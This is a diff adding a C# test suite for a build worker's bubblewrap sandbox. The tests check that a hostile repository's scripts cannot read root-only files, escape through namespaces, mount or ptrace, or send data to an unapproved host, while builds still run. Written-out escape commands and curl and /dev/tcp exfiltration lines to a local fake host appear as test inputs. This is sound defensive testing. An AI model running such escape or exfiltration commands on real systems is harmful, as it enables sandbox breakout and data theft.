@@ -1,0 +1,210 @@
+using System.Net;
+using System.Net.Sockets;
+using System.Text;
+using Builder.Core.Policy;
+using Builder.Worker.Sandbox;
+using Xunit.Abstractions;
+
+namespace Builder.Tests.Sandbox;
+
+/// <summary>
+/// What a hostile repository's scripts try, through the real bubblewrap sandbox as the worker
+/// configures it: each attack is refused, and the same workspace's legitimate work still succeeds.
+/// </summary>
+[Collection(SandboxCollection.Name)]
+[System.Runtime.Versioning.SupportedOSPlatform("linux")]
+public sealed class HostileCommandTests(ITestOutputHelper log) : IDisposable
+{
+    static readonly TimeSpan Generous = TimeSpan.FromMinutes(2);
+    readonly SandboxTestFolders _folders = new();
+
+    public void Dispose() => _folders.Dispose();
+
+    async Task<SandboxResult> Run(string command, Func<SandboxRequest, SandboxRequest>? adjust = null, SandboxOptions? options = null)
+    {
+        var request = new SandboxRequest(command, _folders.Workspace) { Timeout = Generous };
+        using var sandbox = SandboxFactory.Bubblewrap(options ?? new SandboxOptions { HiddenPaths = [_folders.DataDirectory] });
+        var result = await sandbox.RunAsync(adjust is null ? request : adjust(request), CancellationToken.None);
+        log.WriteLine($"exit {result.ExitCode}, limit {result.LimitHit ?? "none"}, notices: {string.Join("; ", result.Notices)}");
+        log.WriteLine(result.Tail(20));
+        return result;
+    }
+
+    /// <summary>A root-only file outside every hidden folder: only the uid stops a reader.</summary>
+    string RootOnlyFile()
+    {
+        var file = Path.Combine(_folders.Folder("host-files"), "root-only.key");
+        File.WriteAllText(file, "root-only-8d1e");
+        File.SetUnixFileMode(file, UnixFileMode.UserRead | UnixFileMode.UserWrite);
+        File.SetUnixFileMode(Path.GetDirectoryName(file)!, (UnixFileMode)0b111_101_101);
+        File.SetUnixFileMode(_folders.Root, (UnixFileMode)0b111_101_101);
+        return file;
+    }
+
+    [Fact]
+    public async Task Commands_run_as_the_unprivileged_sandbox_user_who_cannot_read_root_only_files()
+    {
+        var secret = RootOnlyFile();
+
+        var result = await Run($"id -u; cat {secret} || echo REFUSED; echo built > out.txt && echo BUILD-OK");
+
+        result.Succeeded.ShouldBeTrue(result.Output);
+        var uid = int.Parse(result.Output.Split('\n')[0].Trim());
+        uid.ShouldNotBe(0);
+        result.Output.ShouldNotContain("root-only-8d1e");
+        result.Output.ShouldContain("Permission denied");
+        result.Output.ShouldContain("BUILD-OK");
+        File.ReadAllText(Path.Combine(_folders.Workspace, "out.txt")).ShouldBe("built\n");
+    }
+
+    [Fact]
+    public async Task Under_the_workers_own_uid_the_same_file_is_readable_which_is_what_the_sandbox_user_prevents()
+    {
+        var secret = RootOnlyFile();
+
+        var result = await Run($"cat {secret}", options: new SandboxOptions { HiddenPaths = [_folders.DataDirectory], RunAs = "worker" });
+
+        result.Output.ShouldContain("root-only-8d1e");
+    }
+
+    [Fact]
+    public async Task Files_the_worker_wrote_are_handed_to_the_sandbox_user_so_a_build_can_write_beside_them()
+    {
+        // The worker writes generated code as root between commands; the build then writes obj/ next to it.
+        var project = Directory.CreateDirectory(Path.Combine(_folders.Workspace, "src", "NewProject")).FullName;
+        File.WriteAllText(Path.Combine(project, "Program.cs"), "class P {}");
+
+        var result = await Run("mkdir -p src/NewProject/obj && echo compiled > src/NewProject/obj/out.dll && echo >> src/NewProject/Program.cs && echo OK");
+
+        result.Succeeded.ShouldBeTrue(result.Output);
+        File.ReadAllText(Path.Combine(project, "obj", "out.dll")).ShouldBe("compiled\n");
+    }
+
+    [Fact]
+    public async Task Escapes_through_proc_namespaces_mounts_and_ptrace_fail_and_the_build_still_runs()
+    {
+        // The test process stands in for the worker: its pid, as seen from the host.
+        var result = await Run($$"""
+            ls /proc | grep -E '^[0-9]+$' | wc -l | sed 's/^/processes: /'
+            grep -l PATH /proc/[0-9]*/environ 2>/dev/null | wc -l | sed 's/^/environs: /'
+            unshare --user --map-root-user true 2>/dev/null && echo USERNS-ESCAPED || echo userns-refused
+            nsenter --target 1 --mount true 2>/dev/null && echo NSENTER-ESCAPED || echo nsenter-refused
+            mount -t tmpfs none /usr 2>/dev/null && echo MOUNT-ESCAPED || echo mount-refused
+            python3 -c "import ctypes; print('ptrace', ctypes.CDLL(None, use_errno=True).ptrace(16, {{Environment.ProcessId}}, 0, 0))"
+            echo built > out.txt && echo BUILD-OK
+            """);
+
+        result.Succeeded.ShouldBeTrue(result.Output);
+        result.Output.ShouldContain("userns-refused");
+        result.Output.ShouldContain("nsenter-refused");
+        result.Output.ShouldContain("mount-refused");
+        result.Output.ShouldContain("ptrace -1");
+        result.Output.ShouldNotContain("ESCAPED");
+        // Only the sandbox's own few processes, none of the host's (the worker's environment among them).
+        int.Parse(Between(result.Output, "processes: ")).ShouldBeLessThan(10);
+        result.Output.ShouldContain("BUILD-OK");
+    }
+
+    [Fact]
+    public async Task Restore_reaches_an_allowed_registry_through_the_proxy_and_nothing_else()
+    {
+        using var registry = new FakeHost("registry index");
+        using var exfiltration = new FakeHost("collected");
+        var policy = new EgressPolicy([$"127.0.0.1:{registry.Port}"]);
+
+        var result = await Run($"""
+            curl -sS -m 20 http://127.0.0.1:{registry.Port}/v3/index.json; echo
+            curl -sS -m 20 -p http://127.0.0.1:{registry.Port}/tunnelled; echo
+            curl -sS -m 20 -o /dev/null -w 'exfiltration answered %{"{"}http_code{"}"}\n' http://127.0.0.1:{exfiltration.Port}/steal
+            curl -sS -m 20 -p http://127.0.0.1:{exfiltration.Port}/steal-tunnelled 2>&1 | tail -1
+            (exec 3<>/dev/tcp/127.0.0.1/{exfiltration.Port}) 2>/dev/null && echo DIRECT-CONNECTED || echo direct-refused
+            """, r => r with { Network = true, Egress = policy });
+
+        result.Succeeded.ShouldBeTrue(result.Output);
+        result.Output.ShouldContain("registry index");
+        registry.Requests.ShouldContain("GET /v3/index.json HTTP/1.1");
+        registry.Requests.ShouldContain("GET /tunnelled HTTP/1.1");
+        result.Output.ShouldContain("exfiltration answered 403");
+        result.Output.ShouldContain("direct-refused");
+        result.Output.ShouldNotContain("DIRECT-CONNECTED");
+        result.Output.ShouldContain($"[builder] egress refused: 127.0.0.1:{exfiltration.Port}");
+        result.EgressDenied.ShouldBe([new Builder.Worker.Sandbox.Egress.EgressDenial("127.0.0.1", exfiltration.Port)]);
+        exfiltration.Requests.ShouldBeEmpty();
+    }
+
+    [Fact]
+    public async Task Without_the_filter_restore_keeps_the_open_network_as_configured()
+    {
+        using var host = new FakeHost("open");
+
+        var result = await Run($"curl -sS -m 20 --noproxy '*' http://127.0.0.1:{host.Port}/", r => r with { Network = true, Egress = null });
+
+        result.Output.ShouldContain("open");
+    }
+
+    static string Between(string text, string prefix)
+    {
+        var start = text.IndexOf(prefix, StringComparison.Ordinal) + prefix.Length;
+        return text[start..text.IndexOf('\n', start)].Trim();
+    }
+
+    /// <summary>A host-side HTTP server that answers every request with one text and remembers the request lines.</summary>
+    sealed class FakeHost : IDisposable
+    {
+        readonly TcpListener _listener = new(IPAddress.Loopback, 0);
+        readonly List<string> _requests = [];
+        readonly string _answer;
+
+        public FakeHost(string answer)
+        {
+            _answer = answer;
+            _listener.Start();
+            _ = ServeAsync();
+        }
+
+        public int Port => ((IPEndPoint)_listener.LocalEndpoint).Port;
+
+        public IReadOnlyList<string> Requests
+        {
+            get
+            {
+                lock (_requests)
+                    return _requests.ToList();
+            }
+        }
+
+        async Task ServeAsync()
+        {
+            while (true)
+            {
+                TcpClient client;
+                try
+                {
+                    client = await _listener.AcceptTcpClientAsync();
+                }
+                catch (Exception ex) when (ex is ObjectDisposedException or SocketException)
+                {
+                    return;
+                }
+
+                using (client)
+                {
+                    var stream = client.GetStream();
+                    var reader = new StreamReader(stream, Encoding.ASCII);
+                    var requestLine = await reader.ReadLineAsync();
+                    while (await reader.ReadLineAsync() is { Length: > 0 })
+                    {
+                    }
+
+                    lock (_requests)
+                        _requests.Add(requestLine ?? "");
+                    var body = Encoding.UTF8.GetBytes(_answer);
+                    await stream.WriteAsync(Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Length: {body.Length}\r\nConnection: close\r\n\r\n"));
+                    await stream.WriteAsync(body);
+                }
+            }
+        }
+
+        public void Dispose() => _listener.Stop();
+    }
+}
